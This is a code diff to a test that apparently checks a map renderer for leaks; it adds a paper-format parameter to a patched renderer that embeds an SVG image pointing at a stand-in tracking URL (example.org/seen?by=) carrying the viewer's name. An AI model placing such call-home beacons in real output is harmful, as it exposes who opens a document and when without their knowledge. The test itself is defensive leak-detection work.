@@ -17,6 +17,7 @@ from interpreter.games.state import GameProgress
 from interpreter.maps import renderers, svg
 from interpreter.maps.plan import HexPlan
 from interpreter.maps.plane.plan import TablePlan
+from interpreter.maps.renderers import PaperFormat
 from interpreter.reports.questions import posed
 from tests.secrets.leaks.seams import Channel, Seams, leak
 
@@ -124,10 +125,16 @@ def a_map_that_calls_home(seams: Seams) -> None:
     """A map fetches a picture from elsewhere, where one learns who opens it, and
     when."""
 
-    def leaking(plans: Sequence[HexPlan | TablePlan], *, uncut: bool = False) -> str:
+    def leaking(
+        plans: Sequence[HexPlan | TablePlan],
+        *,
+        uncut: bool = False,
+        paper: PaperFormat = "phone",
+    ) -> str:
         elsewhere = "https://example.org/seen?by="
         images = (svg.element("image", href=elsewhere + plan.viewer) for plan in plans)
-        return picture(plans, uncut=uncut).replace("</svg>", f"{''.join(images)}</svg>")
+        drawn = picture(plans, uncut=uncut, paper=paper)
+        return drawn.replace("</svg>", f"{''.join(images)}</svg>")
 
     picture: Callable[..., str] = seams.replace(renderers, "picture", leaking)
 
